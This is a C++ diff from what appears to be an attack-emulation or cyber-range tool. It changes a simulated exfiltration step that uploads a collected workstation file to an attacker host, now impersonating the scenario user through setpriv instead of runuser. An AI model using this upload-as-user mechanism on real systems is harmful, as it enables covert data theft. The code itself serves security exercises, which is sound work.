@@ -7,6 +7,7 @@
 // on the workstation the file that was fetched. That it was sent is confirmed here; that it arrived
 // whole is what the collector says. Undone: the fetched file goes; the copy lies with the attacker,
 // whose host goes with its range.
+#include "injector/actions/as_user.h"
 #include "injector/actions/ssh.h"
 #include "scenario-dsl/attack/traces.h"
 
@@ -25,7 +26,7 @@ std::string url(const ActContext &context, const dsl::HttpUpload &upload) {
 std::string collected_file(const ActContext &context, const dsl::HttpUpload &upload) {
     if (upload.through.empty())
         return "/var/tmp/." + context.step.id;
-    return dsl::fetched_file(home_of_user(context, upload.through), context.step.id);
+    return dsl::fetched_file(home_on(context, upload.through), context.step.id);
 }
 
 /// One file after the other, as far as they are there, is what goes out.
@@ -125,14 +126,10 @@ void remove_collected(const ActContext &context, const dsl::HttpUpload &upload) 
 nlohmann::json send(const ActContext &context, const dsl::HttpUpload &upload,
                     const std::string &file) {
     const std::string program = "/usr/lib/enshu/actor";
-    std::vector<std::string> argv{"/usr/sbin/runuser",
-                                  "-u",
-                                  user_of(context, upload.sender()),
-                                  "--",
-                                  program,
-                                  "upload",
-                                  "--url",
-                                  url(context, upload)};
+    const std::string user = user_of(context, upload.sender());
+    std::vector<std::string> argv{
+        "/usr/bin/setpriv", "--reuid=" + user, "--regid=" + user,   "--init-groups", "--", program,
+        "upload",           "--url",           url(context, upload)};
     add_proxy(context, upload.via, upload.sender(), argv);
     argv.push_back("--file");
     argv.push_back(file);
